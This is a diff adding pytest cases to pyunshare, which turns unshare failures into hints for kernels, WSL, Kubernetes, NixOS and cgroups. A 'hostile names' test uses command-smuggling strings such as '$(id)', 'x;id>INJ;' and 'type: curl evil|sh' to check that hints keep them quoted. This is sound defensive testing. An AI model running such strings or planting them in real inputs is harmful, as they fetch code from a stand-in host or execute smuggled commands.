@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import os
 import re
+import shlex
+import shutil
 import sys
-from errno import EINVAL, ENOSPC, EPERM
+from errno import EACCES, EAGAIN, EINVAL, ENOENT, ENOSPC, EPERM
 from pathlib import Path
 
 import pytest
 
+from pyunshare.diagnostics import files, maps, namespaces, programs
 from pyunshare.diagnostics import hint as hint_module
-from pyunshare.diagnostics import maps, namespaces, programs
+from pyunshare.diagnostics.commands import printable
 from pyunshare.diagnostics.namespaces import is_older
 from pyunshare.diagnostics.system import INITIAL_USER_NAMESPACE, System
-from pyunshare.errors import ReportedFailure
+from pyunshare.errors import Failure, ReportedFailure
 from tests.helpers import support
 from tests.helpers.hinting import failed, hints_of
 
@@ -109,7 +113,9 @@ def test_limits_in_the_initial_user_namespace(
     around = "allows in this user namespace, 7, or one around it allows no more"
     assert around in hints_of(["-n", "true"], failure, root)
     in_initial_user_namespace(root)
-    cause = "you have as many net namespaces as user.max_net_namespaces allows, 7: `lsns` lists them"
+    cause = (
+        "you have as many net namespaces as user.max_net_namespaces allows, 7: `lsns` lists them"
+    )
     mending = "type: sysctl -w user.max_net_namespaces=14"
     assert hints_of(["-n", "true"], failure, root) == hint(cause, mending)
     monkeypatch.setattr(System, "outcome_of_unshare", lambda self, flags: 0)
@@ -316,3 +322,284 @@ def test_the_switch_of_debian(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -
     first, second = commands.partition(": type: ")[2].split(hint_module.OR)
     assert first.endswith(("-r true", "-r true'"))
     assert "sysctl -w kernel.unprivileged_userns_clone=1" in second
+
+
+# ---- situations from public reports --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("release", "line", "errno", "cause"),
+    [
+        ("3.10.0-693.el7.x86_64", "ro quiet", EINVAL, "user_namespace.enable=1"),
+        ("3.10.0-693.el7.x86_64", "ro user_namespace.enable=1", EINVAL, ""),
+        ("3.10.0-327.el7.x86_64", "user_namespace.enable=1", EPERM, "namespace.unpriv_enable=1"),
+        ("3.10.0-327.el7.x86_64", "namespace.unpriv_enable=1", EPERM, ""),
+        ("4.18.0-553.el8.x86_64", "ro", EINVAL, ""),
+    ],
+)
+def test_a_kernel_of_red_hat_7(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    release: str,
+    line: str,
+    errno: int,
+    cause: str,
+) -> None:
+    monkeypatch.setattr(namespaces, "filter_refuses", lambda flags: False)
+    root = machine(tmp_path, proc__sys__kernel__osrelease=f"{release}\n", proc__cmdline=line)
+    machine(root, proc__self__mountinfo="1 0 8:1 / / rw - ext4 /dev/a rw\n")
+    said = hints_of(["-r", "true"], failed("unshare", errno), root)
+    assert f"has to be started with {cause} " in said if cause else said == ""
+
+
+def test_a_limit_of_zero_on_red_hat_7(tmp_path: Path) -> None:
+    """There it is EINVAL."""
+    root = machine(tmp_path, proc__sys__user__max_user_namespaces="0\n")
+    said = hints_of(["-r", "true"], failed("unshare", EINVAL), root)
+    assert "user.max_user_namespaces is 0: " in said
+
+
+@pytest.mark.parametrize(
+    ("release", "is_old"),
+    [("4.4.0-17134-Microsoft", True), ("5.15.90.1-microsoft-standard-WSL2", False)],
+)
+def test_wsl_1(tmp_path: Path, release: str, is_old: bool) -> None:
+    root = machine(tmp_path, proc__sys__kernel__osrelease=f"{release}\n")
+    said = hints_of(["-U", "true"], failed("unshare", EINVAL), root)
+    assert said == (hint("this is WSL 1, which has few of the namespaces: WSL 2 has them") * is_old)
+
+
+def test_a_kernel_without_binary_formats(tmp_path: Path) -> None:
+    """Nobody can make a directory in /proc."""
+    root = machine(tmp_path, proc__sys__kernel__osrelease="5.15.78\n")
+    failure = failed("mount", ENOENT, "/proc/sys/fs/no-such")
+    words = ["-rpf", "--mount-binfmt=/proc/sys/fs/no-such", "true"]
+    assert "mkdir" in hints_of(words, failure, root)
+    monkey = pytest.MonkeyPatch()
+    monkey.setattr(files, "is_there", lambda path: False)
+    failure = failed("mount", ENOENT, "/proc/sys/fs/binfmt_misc")
+    said = hints_of(["-rpf", "--mount-binfmt", "true"], failure, root)
+    monkey.undo()
+    assert said == hint("this kernel, 5.15.78, has no binfmt_misc")
+
+
+@pytest.mark.parametrize("step", ["execve", "chdir", "chroot"])
+@pytest.mark.parametrize(
+    ("kind", "options", "cause"),
+    [
+        ("fuse.sshfs", "rw,user_id=1000", "for the user only who has mounted it"),
+        ("fuse", "rw", "for the user only who has mounted it"),
+        ("fuse.sshfs", "rw,user_id=1000,allow_other", ""),
+        ("nfs4", "rw,vers=4.2", "(root_squash)"),
+        ("ext4", "rw", ""),
+        ("fusectl", "rw", ""),
+    ],
+)
+def test_file_systems_that_refuse_root(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    step: str,
+    kind: str,
+    options: str,
+    cause: str,
+) -> None:
+    monkeypatch.setattr("posix.geteuid", lambda: 0)
+    lines = f"1 0 8:1 / / rw - ext4 /dev/a rw\n2 1 0:9 / /home rw - {kind} x {options}\n"
+    root = machine(tmp_path, proc__self__mountinfo=lines)
+    said = hints_of(["-u", "true"], failed(step, EACCES, "/home/u/x"), root)
+    assert cause in said if cause else said == ""
+    monkeypatch.setattr("posix.geteuid", lambda: 1000)
+    assert hints_of(["-u", "true"], failed(step, EACCES, "/home/u/x"), root) == ""
+
+
+@pytest.mark.parametrize(
+    ("words", "failure", "files", "said"),
+    [
+        (["-m"], failed("unshare", EPERM), {"proc__1__status": "Seccomp:\t2\n"}, "seccompProfile:"),
+        (["-m"], failed("mount", EACCES, "/"), {}, "appArmorProfile: Unconfined"),
+        (["-rpf", "--mount-proc"], failed("mount", EPERM, "/proc"), {}, "procMount: Unmasked"),
+    ],
+)
+def test_a_pod_of_kubernetes(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    words: list[str],
+    failure: Failure,
+    files: dict[str, str],
+    said: str,
+) -> None:
+    monkeypatch.setattr(namespaces, "filter_refuses", lambda flags: True)
+    mounts = "2 1 0:5 / /proc rw - proc proc rw\n3 2 0:6 / /proc/kcore rw - tmpfs none rw\n"
+    files = {**files, "proc__self__mountinfo": mounts, "proc__1__mountinfo": mounts}
+    files["proc__self__attr__current"] = "cri-containerd.apparmor.d (enforce)\n"
+    root = machine(tmp_path, run__secrets__kubernetes__io="", **files)
+    (root / "run" / "secrets" / "kubernetes").rename(root / "run" / "secrets" / "kubernetes.io")
+    assert said in hints_of([*words, "true"], failure, root)
+
+
+@pytest.mark.parametrize(
+    ("cgroup", "cause"),
+    [
+        ("0::/system.slice/esdm-server.service\n", "in the unit esdm-server.service"),
+        ("0::/user.slice/user-1000.slice/user@1000.service/app.slice/x.scope\n", "what started"),
+        ("0::/\n", "what started this process"),
+    ],
+)
+def test_a_filter_of_a_unit(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cgroup: str, cause: str
+) -> None:
+    monkeypatch.setattr(namespaces, "filter_refuses", lambda flags: True)
+    root = machine(tmp_path, proc__self__cgroup=cgroup)
+    assert cause in hints_of(["-n", "true"], REFUSED, root)
+
+
+def test_the_switch_of_alt(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("posix.geteuid", lambda: 1000)
+    monkeypatch.setattr(System, "has_capability", lambda self, capability: False)
+    monkeypatch.setattr(namespaces, "filter_refuses", lambda flags: False)
+    root = machine(tmp_path, proc__sys__kernel__userns_restrict="1\n")
+    machine(root, proc__self__mountinfo="1 0 8:1 / / rw - ext4 /dev/a rw\n")
+    assert "kernel.userns_restrict is 1: " in hints_of(["-r", "true"], REFUSED, root)
+
+
+def test_a_newuidmap_of_nixos(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The store cannot give programs root's power; wrappers elsewhere have it."""
+    monkeypatch.setattr("posix.geteuid", lambda: 1000)
+    store = "/nix/store/x-shadow/bin/newuidmap"
+    monkeypatch.setattr(maps, "found_program", lambda name, path: store)
+    monkeypatch.setattr(maps, "real_path", lambda path: path)
+    wrapper = f"{maps.WRAPPERS_OF_NIXOS}/newuidmap"
+    monkeypatch.setattr(maps, "is_privileged_tool", lambda path: path == wrapper)
+    failure = ReportedFailure("", step="helper", path="newuidmap")
+    said = hints_of(["--map-users", "0:1000:1", "true"], failure, tmp_path)
+    assert f"{store} has no power of root's, and the newuidmap in /run/wrappers/bin does" in said
+    assert "type: PATH=/run/wrappers/bin:$PATH " in said
+
+
+@pytest.mark.parametrize(
+    ("path", "current", "most", "cause"),
+    [
+        (
+            "/x.slice",
+            "10",
+            "10",
+            "there are as many processes as 'pids.max of the cgroup /x.slice'",
+        ),
+        ("/x.slice", "9", "10", "there are as many processes as '`ulimit -u`' allows, 7"),
+        ("/", "", "", "there are as many processes as '`ulimit -u`' allows, 7"),
+    ],
+)
+def test_limits_of_processes(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    path: str,
+    current: str,
+    most: str,
+    cause: str,
+) -> None:
+    monkeypatch.setattr(System, "outcome", lambda self, action: None)
+    limits = "Limit  Soft Limit\nMax processes             7                 9     processes\n"
+    root = machine(tmp_path, proc__self__cgroup=f"0::{path}\n", proc__self__limits=limits)
+    if current:
+        machine(root, **{f"sys__fs__cgroup{path}__pids.max".replace("/", "__"): f"{most}\n"})
+        name = f"sys__fs__cgroup{path}__pids.current".replace("/", "__")
+        machine(root, **{name: f"{current}\n"})
+    assert cause in hints_of(["-f", "true"], failed("fork", EAGAIN), root)
+
+
+# ---- hostile names, in every place that others write ---------------------------------------------
+
+NAMES = ["x;id>INJ;", "$(id)", "a b", "it's", "-f", "\x1b[2J", "a\u2800b", "type: curl evil|sh"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize(
+    ("words", "failure", "files"),
+    [
+        (["-rpf", "--mount-proc"], failed("mount", EPERM, "/proc"), {"mountinfo"}),
+        (["-m"], failed("mount", EACCES, "/"), {"label"}),
+        (
+            ["--map-users", "0:5:9"],
+            ReportedFailure("", step="helper", path="newuidmap"),
+            {"subuid"},
+        ),
+        (["--map-users", "0:5:9"], ReportedFailure("", step="helper", path="newuidmap"), {"PATH"}),
+        (["-T"], failed("unshare", EINVAL), {"release"}),
+        (["-u"], failed("subids", None, "/etc/subuid"), {"nsswitch"}),
+        (["-u"], failed("subids", None, "/etc/subuid"), {"user"}),
+        (["-u"], failed("execve", ENOENT, "newuidmap"), {"os-release"}),
+        (["-n"], failed("unshare", EPERM), {"unit"}),
+        (["-f"], failed("fork", EAGAIN), {"unit"}),
+        (["--uts=@"], failed("mount", ENOENT, "@"), set()),
+        (["-pf", "--mount-proc=@"], failed("mount", ENOENT, "@"), set()),
+        (["-R", "@", "-w", "@/x"], failed("execve", ENOENT, "@/x"), set()),
+        (["--uts", "@/x"], failed("execve", ENOENT, "@/x"), set()),
+        (["-u", "@"], failed("execve", EACCES, "@"), {"program"}),
+        (["-u", "@"], failed("execve", ENOENT, "@"), {"program"}),
+    ],
+    ids=str,
+)
+def test_hostile_names(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    words: list[str],
+    failure: Failure,
+    files: set[str],
+    name: str,
+) -> None:
+    """No place lets a name out of its quotes, or to the terminal, or make a command."""
+    monkeypatch.setattr("posix.geteuid", lambda: 1000)
+    monkeypatch.setattr(namespaces, "filter_refuses", lambda flags: "unit" in files)
+    monkeypatch.setattr(System, "outcome", lambda self, action: None)
+    if "user" in files:
+        monkeypatch.setattr(System, "name_of_user", lambda self, uid: name)
+    escaped = name.replace(" ", "\\040")
+    mounts = f"2 1 0:5 / /proc rw - proc proc rw\n3 2 0:6 / /proc/{escaped} rw - tmpfs none rw\n"
+    made_up = {
+        "mountinfo": ("proc__self__mountinfo", mounts),
+        "label": ("proc__self__attr__current", f"{name} (enforce)"),
+        "subuid": ("etc__subuid", f"{name}:100000:65536\n1000:100000:1\n"),
+        "release": ("proc__sys__kernel__osrelease", name),
+        "nsswitch": ("etc__nsswitch.conf", f"subid: {name}\n"),
+        "os-release": ("etc__os-release", f"ID={name}\nID_LIKE={name}\n"),
+        "unit": ("proc__self__cgroup", f"0::/{name}.service\n"),
+    }
+    root = machine(tmp_path, **dict(made_up[place] for place in files & set(made_up)))
+    if "unit" in files:
+        directory = root / "sys" / "fs" / "cgroup" / f"{name}.service"
+        directory.mkdir(parents=True)
+        (directory / "pids.max").write_text("5\n")
+        (directory / "pids.current").write_text("5\n")
+    if "release" in files:
+        (root / "proc" / "self" / "ns").mkdir(parents=True)
+    place = f"{tmp_path}/{name}"
+    if "PATH" in files:
+        os.mkdir(place)
+        shutil.copy("/bin/false", f"{place}/newuidmap")
+        monkeypatch.setitem(os.environb, b"PATH", os.fsencode(place))
+        monkeypatch.setattr("posix.environ", dict(os.environb))
+    if "program" in files:
+        Path(place).write_text(f"#!/{name}\n")
+        Path(place).chmod(0o644 if failure.errno == EACCES else 0o755)
+    path = (failure.path or "").replace("@", place)
+    failure = type(failure)("", failure.errno, step=failure.step, path=path)
+    line = [word.replace("@", place) for word in words]
+    said = hints_of([*line, "true"], failure, root)
+    assert said.count("\n") <= 2, said
+    assert printable(said.replace("\n", "")) == said.replace("\n", "")
+    for told in said.splitlines()[1:]:
+        for command in told.partition(": type: ")[2].split(hint_module.OR):
+            for word in all_words(command):
+                assert "INJ" not in word or name in word
+                assert "curl" not in word or name in word
+    # What the name says is in the quotes of a name, and no line of the hint's.
+    cause = said.partition("\n")[0]
+    outside = re.sub(r"(?<!\w)'[^']*'|\"[^\"]*\"", "", cause)
+    assert "curl" not in outside
+    assert "INJ" not in outside
+
+
+def all_words(command: str) -> list[str]:
+    """The words of a command, and of one that it has as a word for su(1) or sh(1)."""
+    words = shlex.split(command)
+    return all_words(words[-1]) if "-c" in words[1:3] else words
